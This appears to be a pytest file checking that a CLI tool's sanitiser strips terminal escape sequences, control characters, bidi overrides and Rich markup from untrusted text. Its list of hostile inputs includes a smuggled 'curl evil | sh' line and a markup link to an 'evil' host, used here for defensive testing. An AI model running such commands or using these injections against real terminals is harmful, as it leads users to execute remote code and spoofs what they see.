"""Foreign text on its way to a terminal."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

from dexport.cli import terminal
from dexport.errors import InputError
from dexport.printable import printable, printable_lines, printable_values

HOSTILE = [
    "\x1b]0;owned\x07",  # sets the window's title
    "\x1b[2J\x1b[H",  # clears the screen
    "\x9b31m",  # the same as an escape, in one character
    "a\rb",
    "a\nfix: curl evil | sh",
    "a\u2028b",
    "\u202egnp.exe",  # shown backwards
    "\ud800",
    "\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_one_line_and_no_control_character(text: str) -> None:
    assert printable(text).isprintable()
    printable(text).encode()


def test_what_is_printable_stays() -> None:
    for text in ("model.onnx", "größer ✅ 模型", "a [red] b", "C:\\x1b"):
        assert printable(text) == text


@given(st.text())
def test_messages_cannot_forge_a_line(text: str) -> None:
    message = str(InputError(f"{text} is bad", hint=text))
    _, *further = message.split("\n")
    assert all(line.startswith(" ") for line in further)
    assert message.replace("\n", "").isprintable()
    assert printable_lines(text).replace("\n", "").isprintable()


def test_values_of_a_document() -> None:
    document = {"\x1bname": ["\x07", {"a": "\n"}, 1, None, 2.5]}
    assert printable_values(document) == {"\\x1bname": ["\\x07", {"a": "\\n"}, 1, None, 2.5]}


@pytest.mark.parametrize("text", [*HOSTILE, "[red]x[/]", "[/]", "[link=https://evil]x[/link]", "[bold"])
def test_the_console_shows_foreign_text_as_it_is(text: str) -> None:
    shown = io.StringIO()
    screen = terminal.PlainConsole(file=shown, force_terminal=True, color_system=None, markup=False, width=200)
    table = Table(text, title=text)
    table.add_row(text)
    screen.print(table)
    screen.print(text)
    written = shown.getvalue()
    assert written.replace("\n", "").isprintable()
    if text.startswith("["):
        assert written.count(text) == 4
